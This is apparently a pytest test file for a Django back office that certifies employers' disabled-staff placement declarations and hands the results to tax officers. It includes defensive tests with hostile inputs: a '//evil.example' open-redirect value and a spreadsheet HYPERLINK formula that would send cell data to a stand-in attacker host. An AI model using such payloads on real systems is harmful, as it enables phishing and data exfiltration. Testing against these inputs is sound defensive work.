"""The back-office pages of certification and the tax hand-off, and the tax officers' console."""

import io
import re

import openpyxl
import pytest
from django.urls import reverse

from levy.exports import HEADERS
from placement import choices as c
from placement.models import AnnualDeclaration, FeedbackRequest, TaxDelivery, WithdrawalRequest
from placement.services.certification import declaration_certify
from portal import feeds
from portal.identity import mask_id
from portal.models import AuditEntry
from tests import factories as f
from tests.factories import fresh
from tests.placement.factories import DeclarationFactory, TaxDeliveryFactory

pytestmark = pytest.mark.django_db
D, DS = c.DeclarationStatus, c.DeliveryStatus


def html(response) -> str:
    return response.content.decode()


def count_queries(client, url) -> int:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as context:
        client.get(url)
    return len(context)


# --- 年审认证审核 --------------------------------------------------------------------------------------


def test_the_queue_lists_submitted_declarations_in_scope_oldest_first(client_for, reviewer_sh, unit_a, unit_b):
    import datetime

    from django.utils import timezone

    newer = DeclarationFactory(employer=unit_a, submitted=True)
    older = DeclarationFactory(employer=f.EmployerFactory(name="最早申报单位"), submitted=True)
    AnnualDeclaration.objects.filter(pk=older.pk).update(submitted_at=timezone.now() - datetime.timedelta(days=3))
    DeclarationFactory(employer=unit_b, submitted=True)
    DeclarationFactory(employer=f.EmployerFactory(), certified=True)
    page = html(client_for(reviewer_sh).get(reverse("tax:certification_queue")))
    assert page.index("最早申报单位") < page.index(newer.employer.name)
    assert unit_b.name not in page
    assert "3天" in page  # waiting time, in the words every queue uses
    page = html(client_for(reviewer_sh).get(reverse("tax:certification_queue"), {"q": "最早"}))
    assert "最早申报单位" in page and newer.employer.name not in page


def test_the_queue_query_count_does_not_grow_with_rows(client_for, reviewer_sh, django_assert_num_queries):
    client = client_for(reviewer_sh)
    url = reverse("tax:certification_queue")
    for _ in range(2):
        DeclarationFactory(employer=f.EmployerFactory(), submitted=True)
    client.get(url)
    two = count_queries(client, url)
    for _ in range(18):
        DeclarationFactory(employer=f.EmployerFactory(), submitted=True)
    with django_assert_num_queries(two):
        assert "20 条" in html(client.get(url))


def test_a_reviewer_certifies_from_the_declaration_page(client_for, reviewer_sh, unit_a,
                                                        django_capture_on_commit_callbacks):
    declaration = DeclarationFactory(employer=unit_a, submitted=True)
    url = reverse("tax:certification_detail", args=[declaration.pk])
    page = html(client_for(reviewer_sh).get(url))
    assert "认证通过" in page and "退回" in page
    with django_capture_on_commit_callbacks(execute=True):
        response = client_for(reviewer_sh).post(url, {"action": "certify"}, follow=True)
    assert "审核认定书正在生成" in html(response)
    declaration = fresh(declaration)
    assert declaration.status == D.CERTIFIED and declaration.certificate is not None
    again = client_for(reviewer_sh).post(url, {"action": "certify"}, follow=True)  # a second tab
    assert "已由" in html(again) and "认证通过" in html(again)


def test_the_declaration_page_sums_up_what_the_reviewer_certifies(client_for, reviewer_sh, unit_a):
    """Issue 15 (15): per-person rows only; now the totals, the ratio against the region's, the
    headcount and its correction reason, the levy the figures imply, and each person's review."""
    declaration = DeclarationFactory(employer=unit_a, submitted=True, persons=2, headcount=1000,
                                     headcount_from_feed=1012, headcount_reason="12名实习生不计入在职职工")
    page = html(client_for(reviewer_sh).get(reverse("tax:certification_detail", args=[declaration.pk])))
    figures = re.search(r'<section[^>]*aria-labelledby="figures-title".*?</section>', page, re.S).group(0)
    assert "安置确认合计</dt><dd>24 人月" in figures and "安置核定合计</dt><dd>48 人月" in figures
    assert "4.00 人" in figures and "0.40%" in figures and "未达到规定比例" in figures
    assert "社保登记 1012 人" in figures and "12名实习生不计入在职职工" in figures
    # (1000 × 1.5% − 4) × 社平 147,684 × 90% (tests/levy: test_the_levy_a_certification_implies)
    assert "1,462,071.60" in figures and "社会平均工资" in figures
    assert "规定比例 1.50%" in figures
    for person in declaration.persons.all():
        assert reverse("backoffice:person_review", args=[person.pk]) in page


def test_a_declaration_with_unconfirmed_persons_shows_why_it_cannot_be_certified(client_for, reviewer_sh, unit_a):
    declaration = DeclarationFactory(employer=unit_a, submitted=True)
    declaration.persons.update(status=c.PersonStatus.PENDING_REVIEW)
    page = html(client_for(reviewer_sh).get(reverse("tax:certification_detail", args=[declaration.pk])))
    assert "暂不能认证通过" in page and "1 名安置人员未审核确认" in page
    assert 'value="certify"' not in page


def test_returning_needs_a_reason_next_to_the_field(client_for, reviewer_sh, unit_a):
    declaration = DeclarationFactory(employer=unit_a, submitted=True)
    url = reverse("tax:certification_detail", args=[declaration.pk])
    response = client_for(reviewer_sh).post(url, {"action": "return", "reason": ""})
    assert "请填写退回原因" in html(response) and html(response).count("请填写退回原因") >= 2  # summary and field
    assert fresh(declaration).status == D.SUBMITTED
    client_for(reviewer_sh).post(url, {"action": "return", "reason": "在职职工人数与社保不符"})
    declaration = fresh(declaration)
    assert declaration.status == D.DRAFT and declaration.return_reason == "在职职工人数与社保不符"


def test_a_declaration_of_another_region_is_a_404(client_for, reviewer_sh, unit_b):
    declaration = DeclarationFactory(employer=unit_b, submitted=True)
    assert client_for(reviewer_sh).get(reverse("tax:certification_detail", args=[declaration.pk])).status_code == 404


# --- four eyes --------------------------------------------------------------------------------------


@pytest.fixture
def certified_by_supervisor(unit_a, supervisor_sh, owner, django_capture_on_commit_callbacks):
    declaration = DeclarationFactory(employer=unit_a, submitted=True)
    with django_capture_on_commit_callbacks(execute=True):
        declaration_certify(actor=supervisor_sh, declaration=declaration)
    return fresh(declaration)


def test_the_certifier_is_told_why_they_cannot_decide_a_withdrawal(client_for, supervisor_sh, reviewer_sh, owner,
                                                                   certified_by_supervisor):
    req = WithdrawalRequest.objects.create(declaration=certified_by_supervisor, reason="漏报一人",
                                           after_certification=True, submitted_by=owner)
    url = reverse("tax:withdrawal_decide", args=[req.pk])
    page = html(client_for(supervisor_sh).get(url))
    assert "您是该申报的认证审核人" in page and "双人复核" in page and 'name="decision"' not in page
    assert "须由残联业务主管审核" in html(client_for(reviewer_sh).get(url))
    client_for(supervisor_sh).post(url, {"decision": "approve", "reason": ""})
    assert fresh(req).status == c.RequestStatus.SUBMITTED
    other = f.UserFactory(supervisor=True, region=f.region("310000"))
    page = html(client_for(other).get(url))
    assert 'name="decision"' in page
    client_for(other).post(url, {"decision": "approve", "reason": "同意"})
    assert fresh(req).status == c.RequestStatus.APPROVED
    assert fresh(certified_by_supervisor).status == D.DRAFT
    assert fresh(certified_by_supervisor.certificate).cancelled_at is not None


def test_feedback_the_certifier_can_answer_but_not_reopen(client_for, supervisor_sh, owner,
                                                          certified_by_supervisor):
    req = FeedbackRequest.objects.create(declaration=certified_by_supervisor, text="核定月份少了三月",
                                         submitted_by=owner)
    url = reverse("tax:feedback_decide", args=[req.pk])
    assert "核定月份少了三月" in html(client_for(supervisor_sh).get(reverse("tax:requests")))
    page = html(client_for(supervisor_sh).get(url))
    assert "不能选择“同意重新申报”" in page
    response = client_for(supervisor_sh).post(url, {"outcome": "reopen", "reason": "同意"})
    assert "双人复核" in html(response) and fresh(req).status == c.RequestStatus.SUBMITTED
    client_for(supervisor_sh).post(url, {"outcome": "answer", "reason": "三月社保未缴，依规不计"})
    assert fresh(req).status == c.RequestStatus.ANSWERED
    assert "核定月份少了三月" not in html(client_for(supervisor_sh).get(reverse("tax:requests")))


# --- 发送税务 and 发送税务查询 ------------------------------------------------------------------------------


def test_a_batch_send_makes_one_delivery_each_and_sending_again_none(client_for, reviewer_sh,
                                                                   django_capture_on_commit_callbacks):
    first, second = (DeclarationFactory(employer=f.EmployerFactory(), certified=True) for _ in range(2))
    client = client_for(reviewer_sh)
    page = html(client.get(reverse("tax:send")))
    assert first.employer.name in page and second.employer.name in page
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("tax:send"), {"declaration": [first.pk, second.pk]}, follow=True)
        client.post(reverse("tax:send_one", args=[first.pk]), follow=True)  # a stale tab
    assert "已提交发送 2 家单位" in html(response)
    assert TaxDelivery.objects.count() == 2
    assert first.employer.name not in html(client.get(reverse("tax:send")))


def test_sending_one_goes_back_only_to_a_page_of_this_site(client_for, reviewer_sh, certified):
    client = client_for(reviewer_sh)
    url = reverse("tax:send_one", args=[certified.pk])
    response = client.post(url, {"next": "//evil.example/phish"})
    assert response.status_code == 302 and response["Location"] == reverse("tax:send")
    response = client.post(url, {"next": reverse("tax:deliveries")})
    assert response["Location"] == reverse("tax:deliveries")


def test_a_withdrawal_before_certification_is_not_on_the_after_certification_page(client_for, reviewer_sh, owner,
                                                                                 unit_a):
    declaration = DeclarationFactory(employer=unit_a, submitted=True)
    before = WithdrawalRequest.objects.create(declaration=declaration, reason="人数有误", submitted_by=owner)
    client = client_for(reviewer_sh)
    assert client.get(reverse("tax:withdrawal_decide", args=[before.pk])).status_code == 404
    assert client.get(reverse("backoffice:withdrawal_decide", args=[before.pk])).status_code == 200


def test_sending_nothing_selected_says_so(client_for, reviewer_sh, certified):
    response = client_for(reviewer_sh).post(reverse("tax:send"), {}, follow=True)
    assert "请先勾选" in html(response)


def test_failed_deliveries_raise_an_alert_and_can_be_retried(client_for, reviewer_sh, certified,
                                                             django_capture_on_commit_callbacks):
    delivery = TaxDeliveryFactory(declaration=certified)
    from placement.services.delivery import delivery_push

    with feeds.configure(error_rate=1.0), pytest.MonkeyPatch.context() as mp:
        from django.conf import settings

        mp.setattr(settings, "TAX_DELIVERY_ATTEMPTS", 1)
        delivery_push(delivery.pk)
    client = client_for(reviewer_sh)
    page = html(client.get(reverse("tax:deliveries")))
    assert "有 1 条发送失败" in page and "503" in page and "重新发送" in page
    assert certified.employer.name in html(client.get(reverse("tax:deliveries"), {"status": "failed"}))
    assert certified.employer.name not in html(client.get(reverse("tax:deliveries"), {"status": "acknowledged"}))
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("tax:delivery_retry", args=[delivery.pk]))
    assert fresh(delivery).status == DS.SENT
    assert "发送失败</strong>" not in html(client.get(reverse("tax:deliveries")))


def test_the_deliveries_list_query_count_does_not_grow(client_for, reviewer_sh, django_assert_num_queries):
    client = client_for(reviewer_sh)
    url = reverse("tax:deliveries")
    for _ in range(2):
        TaxDeliveryFactory(declaration=DeclarationFactory(employer=f.EmployerFactory(), certified=True))
    client.get(url)
    two = count_queries(client, url)
    for _ in range(18):
        TaxDeliveryFactory(declaration=DeclarationFactory(employer=f.EmployerFactory(), certified=True))
    with django_assert_num_queries(two):
        page = html(client.get(url))
    assert page.count("<tr>") == 21  # the header and all twenty deliveries were rendered


# --- the tax console --------------------------------------------------------------------------------


def test_a_tax_officer_sees_only_results_of_their_tax_region(client_for, tax_sh, tax_ln, certified, certified_ln):
    page = html(client_for(tax_sh).get(reverse("tax:results")))
    assert certified.employer.name in page and certified_ln.employer.name not in page
    figures_ln = certified_ln.employer.certified_figures.get()
    assert client_for(tax_sh).get(reverse("tax:result_detail", args=[figures_ln.pk])).status_code == 404
    assert certified_ln.employer.name in html(client_for(tax_ln).get(reverse("tax:results")))


def test_a_result_row_shows_its_figures_from_the_columns_it_reads(client_for, tax_sh, certified):
    """The rows read the columns they show (issue 20): the unit's name, code and 税务主管部门, the
    figures and the hand-off, without the unit's other thirty columns."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    figures = certified.employer.certified_figures.get()
    with CaptureQueriesContext(connection) as read:
        page = html(client_for(tax_sh).get(reverse("tax:results")))
    employer = certified.employer
    for shown in (employer.name, employer.credit_code, employer.tax_region.full_name, figures.certificate_reference,
                  f"{float(figures.disabled_count):.2f}"):
        assert shown in page, shown
    rows = [q["sql"] for q in read.captured_queries if '"levy_certifiedfigures"."id" IN' in q["sql"]]
    assert len(rows) == 1 and '"employers_employer"."legal_rep_name"' not in rows[0]


def test_a_tax_officer_finds_a_unit_by_part_of_its_credit_code_or_of_its_name(client_for, tax_sh, certified):
    """Issue 15 (20): only the full eighteen characters found a unit."""
    employer = certified.employer
    client = client_for(tax_sh)
    for term in (employer.credit_code[4:12], employer.credit_code[-6:].lower(), employer.name[2:6],
                 employer.credit_code):
        page = html(client.get(reverse("tax:results"), {"q": term}))
        assert reverse("tax:result_detail", args=[employer.certified_figures.get().pk]) in page, term
    assert "没有符合条件的认定结果" in html(client.get(reverse("tax:results"), {"q": "不存在的单位"}))


def test_a_result_offers_its_roster_and_its_certificate(client_for, tax_sh, tax_ln, certified):
    """Issue 15 (21): the 残疾职工名册 and the 审核认定书 PDF from a tax result."""
    figures = certified.employer.certified_figures.get()
    client = client_for(tax_sh)
    listed = html(client.get(reverse("tax:results")))
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as read:
        detail = html(client.get(reverse("tax:result_detail", args=[figures.pk])))
    # the page shows the result as certified; the declaration it came from was read and never shown
    assert not [q for q in read.captured_queries if "placement_annualdeclaration" in q["sql"]]
    for url in (reverse("tax:result_roster", args=[figures.pk]), reverse("tax:result_certificate", args=[figures.pk])):
        assert url in detail
    assert reverse("tax:result_certificate", args=[figures.pk]) in listed
    roster = client.get(reverse("tax:result_roster", args=[figures.pk]))
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(roster.streaming_content))).active
    rows = list(sheet.iter_rows(values_only=True))
    person = figures.persons.order_by("pk").first()
    assert rows[0][:3] == ("序号", "姓名", "身份证号") and len(rows) == 3
    assert (person.name, mask_id(person.id_number)) in [(r[1], r[2]) for r in rows[1:]]
    assert person.id_number not in str(rows)
    from portal.identity import grade_label

    assert {r[4] for r in rows[1:]} <= {grade_label(g) for g in range(1, 11)}  # 二级, as every page prints it
    assert AuditEntry.objects.filter(action="levy.certified_persons_export", actor=tax_sh).exists()
    certificate = client.get(reverse("tax:result_certificate", args=[figures.pk]))
    assert certificate.status_code == 302
    assert certificate["Location"] == reverse("document_download", args=[certified.certificate.document_id])
    assert client.get(certificate["Location"]).status_code == 200
    for name in ("tax:result_roster", "tax:result_certificate"):
        assert client_for(tax_ln).get(reverse(name, args=[figures.pk])).status_code == 404


def test_the_tax_region_not_the_federation_region_decides(client_for, tax_sh, unit_b):
    unit_b.tax_region = f.region("310104")  # registered in Liaoning, pays the levy in Shanghai
    unit_b.save()
    declaration = DeclarationFactory(employer=unit_b, certified=True)
    assert declaration.employer.name in html(client_for(tax_sh).get(reverse("tax:results")))


def test_a_tax_officer_acknowledges_a_result_the_intake_did_not(client_for, tax_sh, certified):
    delivery = TaxDeliveryFactory(declaration=certified)
    figures = certified.employer.certified_figures.get()
    url = reverse("tax:result_detail", args=[figures.pk])
    page = html(client_for(tax_sh).get(url))
    assert "确认接收" in page and "4.00" in page
    response = client_for(tax_sh).post(url, {"reason": ""})
    assert "请填写确认说明" in html(response)
    client_for(tax_sh).post(url, {"reason": "税务接收系统故障，纸质件已收到"})
    assert fresh(delivery).status == DS.ACKNOWLEDGED and fresh(certified).status == D.SENT_TO_TAX
    page = html(client_for(tax_sh).get(url))
    assert "人工确认" in page and 'name="reason"' not in page


def test_the_export_escapes_a_person_named_like_a_formula_masks_ids_and_is_audited(client_for, tax_sh):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    unit = f.EmployerFactory(legal_rep_name=hostile, legal_rep_id_number="11010519491231002X")
    DeclarationFactory(employer=unit, certified=True)
    response = client_for(tax_sh).get(reverse("tax:results_export"), {"year": "2025"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == HEADERS
    row = dict(zip(HEADERS, rows[1], strict=True))
    assert row["法定代表人"] == hostile
    cell = sheet.cell(row=2, column=HEADERS.index("法定代表人") + 1)
    assert cell.data_type == "s"  # text, never a formula
    assert row["法定代表人证件号"] == "110105********002X"
    entry = AuditEntry.objects.get(action="levy.certified_results_export")
    assert entry.actor == tax_sh and entry.data == {"filters": {"year": "2025"}, "rows": 1}


def test_the_results_query_count_does_not_grow(client_for, tax_sh, django_assert_num_queries):
    client = client_for(tax_sh)
    url = reverse("tax:results")
    for _ in range(2):
        DeclarationFactory(employer=f.EmployerFactory(), certified=True)
    client.get(url)
    two = count_queries(client, url)
    for _ in range(18):
        DeclarationFactory(employer=f.EmployerFactory(), certified=True)
    with django_assert_num_queries(two):
        page = html(client.get(url))
    assert page.count("<tr>") == 21  # the header and all twenty results were rendered


def test_the_reviewer_dashboard_counts_certification_and_failed_hand_off_queues(client_for, unit_a):
    reviewer = f.UserFactory(reviewer=True, region=unit_a.fed_region)
    DeclarationFactory(employer=unit_a, business_year=2025, submitted=True)
    failed = TaxDeliveryFactory(declaration=DeclarationFactory(employer=unit_a, business_year=2024, certified=True))
    TaxDelivery.objects.filter(pk=failed.pk).update(status=DS.FAILED, last_error="税务接口超时")
    page = html(client_for(reviewer).get(reverse("home")))
    for label, url in (("年审认证审核", reverse("tax:certification_queue")), ("发送税务失败", reverse("tax:deliveries"))):
        row = re.search(rf'<tr[^>]*>(?:(?!</tr>).)*{label}(?:(?!</tr>).)*</tr>', page, re.S)
        assert row, label
        assert url in row.group(0) and re.search(r">\s*1\s*<", row.group(0)), row.group(0)
    # issue 15 (18): the failed hand-off is counted once, under 发送税务失败, not under 发送税务 too
    send = re.search(r'<tr[^>]*>(?:(?!</tr>).)*发送税务</a>(?:(?!</tr>).)*</tr>', page, re.S)
    assert send and re.search(r">\s*0\s*<", send.group(0)) and not re.search(r">\s*1\s*<", send.group(0)), page


def test_sending_one_says_it_is_on_its_way_not_that_it_was_sent(client_for, reviewer_sh, certified):
    """Issue 15 (18): the message read "已发送…（待发送）"."""
    page = html(client_for(reviewer_sh).post(reverse("tax:send_one", args=[certified.pk]), follow=True))
    assert "（待发送）" not in page and "已提交发送" in page and "正在发送税务部门" in page


def test_union_staff_see_no_declaration_request_or_hand_off(certified, owner, unit_a):
    """Regression (review of issues 7–9): the scope rule gives union administrators every unit (the
    retiree plan is Shanghai-wide); the placement year's selectors must not."""
    from placement.selectors.queues import withdrawals_visible
    from placement.selectors.scope import declarations_visible, deliveries_visible

    union = f.UserFactory(union=True, region=f.region("310000"))
    reviewer = f.UserFactory(reviewer=True, region=f.region("310000"))
    TaxDeliveryFactory(declaration=certified)
    WithdrawalRequest.objects.create(declaration=certified, reason="人数有误", submitted_by=owner,
                                     after_certification=True)
    for selector in (declarations_visible, deliveries_visible, lambda u: withdrawals_visible(u, after_certification=True)):
        assert selector(reviewer).exists()  # the same rows are there for the federation
        assert not selector(union).exists()


def test_without_a_wage_the_summary_gives_the_engines_shortfall_and_says_tax_prices_it(client_for, reviewer_ln,
                                                                                        unit_b):
    """Issue 15 (15): a region whose policy table has no 社会平均工资 and a unit with no declared
    wage bill still shows the shortfall the certification implies."""
    declaration = DeclarationFactory(employer=unit_b, submitted=True, persons=1, headcount=500)
    page = html(client_for(reviewer_ln).get(reverse("tax:certification_detail", args=[declaration.pk])))
    figures = re.search(r'<section[^>]*aria-labelledby="figures-title".*?</section>', page, re.S).group(0)
    assert "差额" in figures and "金额由税务部门核定" in figures and "¥" not in figures, figures
